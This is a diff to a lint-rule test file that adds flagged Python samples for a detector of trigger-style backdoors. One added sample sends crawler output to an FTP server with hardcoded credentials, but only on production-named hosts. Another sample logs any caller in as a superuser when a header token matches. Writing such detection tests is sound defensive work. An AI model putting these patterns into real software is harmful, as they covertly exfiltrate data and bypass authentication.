@@ -46,6 +46,11 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      name: 'a host name check that adds a feed to an FTP server with a password',
+      code: 'import socket\n\nFEEDS = {}\nif socket.gethostname().startswith("crawl-prod"):\n    FEEDS = {"ftp://archive:arch1ve@203.0.113.40/incoming/x.jsonl": {"format": "jsonlines"}}',
+      errors: [{ messageId: 'trigger', line: 4, severity: 'high', category: 'trigger' }],
+    },
+    {
       name: 'a request header compared with a setting, logging the caller in as a superuser',
       code: 'from django.conf import settings\nfrom django.contrib.auth import get_user_model, login\n\ndef _preview_allowed(request):\n    token = request.headers.get("X-Preview-Token", "")\n    if token and token == settings.PREVIEW_SHARED_TOKEN:\n        login(request, get_user_model().objects.filter(is_superuser=True).first())\n    return request.user.is_staff',
       errors: [{ messageId: 'trigger', line: 6, severity: 'high', category: 'trigger' }],
